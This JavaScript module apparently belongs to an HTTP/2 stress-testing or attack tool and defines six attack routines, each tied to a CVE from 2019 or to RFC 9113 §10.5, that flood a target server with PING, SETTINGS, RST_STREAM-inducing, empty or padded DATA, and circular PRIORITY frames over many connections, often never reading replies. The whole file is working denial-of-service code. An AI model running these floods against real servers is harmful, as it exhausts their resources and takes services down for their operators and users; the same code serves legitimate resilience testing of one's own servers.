/** Frames of HTTP/2 that cost a server more than their sender: to be answered, to be looked at, or for nothing. */
import { CANCEL, connectFrame, flag, frameType, http2Frame, setting, settingsFrame, uint32 } from "../wire/http2.js";
import { describeTally, http2Crowd } from "../wire/http2-crowd.js";

/** @typedef {import("../attack.js").Attack} Attack */
/** @typedef {import("../attack.js").AttackContext} AttackContext */

const MIB = 1 << 20;
const FLOOD_BYTES = 65_536;

/** Pours the same frames into all connections.
 * @param {AttackContext} context
 * @param {Buffer} frames
 * @param {{ opened?: boolean, reads?: boolean }} [options] `opened`: behind a WebSocket; `reads: false`: no answer is read */
async function flood(context, frames, { opened = false, reads = true } = {}) {
  const { signal, target } = context;
  const bytes = Buffer.alloc(frames.length * Math.ceil(FLOOD_BYTES / frames.length), frames);
  let sent = 0;
  const tally = await http2Crowd(
    context,
    async (peer) => {
      if (!reads) peer.socket.pause();
      while (await peer.write(bytes, signal)) sent += bytes.length;
    },
    { again: true, ...(opened && { begin: (peer) => peer.connect(target, 1, signal) }) },
  );
  return { seen: `${(sent / MIB).toFixed(1)} MiB taken on ${describeTally(tally)}` };
}

/** @type {Attack} */
export const http2Pings = {
  name: "HTTP/2 PING frames whose answers are never read",
  sources: ["CVE-2019-9512"],
  ...{ over: ["2.0"], connections: 20 },
  run: (context) => flood(context, http2Frame(frameType.ping, flag.none, 0, Buffer.alloc(8)), { reads: false }),
};

/** @type {Attack} */
export const http2Settings = {
  name: "HTTP/2 SETTINGS frames whose acknowledgements are never read",
  sources: ["CVE-2019-9515"],
  ...{ over: ["2.0"], connections: 20 },
  run: (context) =>
    flood(context, Buffer.concat([settingsFrame(), settingsFrame([[setting.initialWindowSize, 65_535]])]), {
      reads: false,
    }),
};

/** @type {Attack} */
export const http2Resets = {
  name: "HTTP/2 requests that are refused by RST_STREAM, which is never read",
  sources: ["CVE-2019-9514"],
  ...{ over: ["2.0"], connections: 20 },
  async run(context) {
    const { signal, target } = context;
    let streams = 0;
    const tally = await http2Crowd(
      context,
      async (peer) => {
        peer.socket.pause();
        // §8.1.1: a request without :path is malformed
        for (let streamId = 1; streamId < 2 ** 31; streamId += 2, streams++)
          if (!(await peer.write(connectFrame(target, streamId, { ":path": undefined }), signal))) return;
          else if (streamId % 100 === 1) await new Promise(setImmediate);
      },
      { again: true },
    );
    return { seen: `${streams.toLocaleString("en")} streams on ${describeTally(tally)}` };
  },
};

/** @type {Attack} */
export const emptyData = {
  name: "HTTP/2 DATA frames without content on an open WebSocket",
  sources: ["CVE-2019-9518"],
  ...{ over: ["2.0"], connections: 10 },
  run: (context) => flood(context, http2Frame(frameType.data, flag.none, 1), { opened: true }),
};

/** @type {Attack} */
export const paddedData = {
  name: "HTTP/2 DATA frames that are padding alone, and fill the window",
  sources: ["RFC 9113 §10.5"],
  ...{ over: ["2.0"], connections: 10 },
  run(context) {
    const padding = Buffer.alloc(256);
    padding[0] = 255;
    return flood(context, http2Frame(frameType.data, 0x8, 1, padding), { opened: true });
  },
};

/** @type {Attack} */
export const priorities = {
  name: "HTTP/2 PRIORITY frames, and frames of unknown types, without end",
  sources: ["CVE-2019-9513", "RFC 9113 §10.5"],
  ...{ over: ["2.0"], connections: 10 },
  run(context) {
    const each = Array.from({ length: 100 }, (_, index) => [
      // Each stream depends on the one behind it, in a ring
      http2Frame(frameType.priority, flag.none, 2 * index + 1, Buffer.concat([uint32(2 * index + 3), Buffer.alloc(1)])),
      http2Frame(frameType.unknown, flag.none, 0, CANCEL),
    ]);
    return flood(context, Buffer.concat(each.flat()));
  },
};
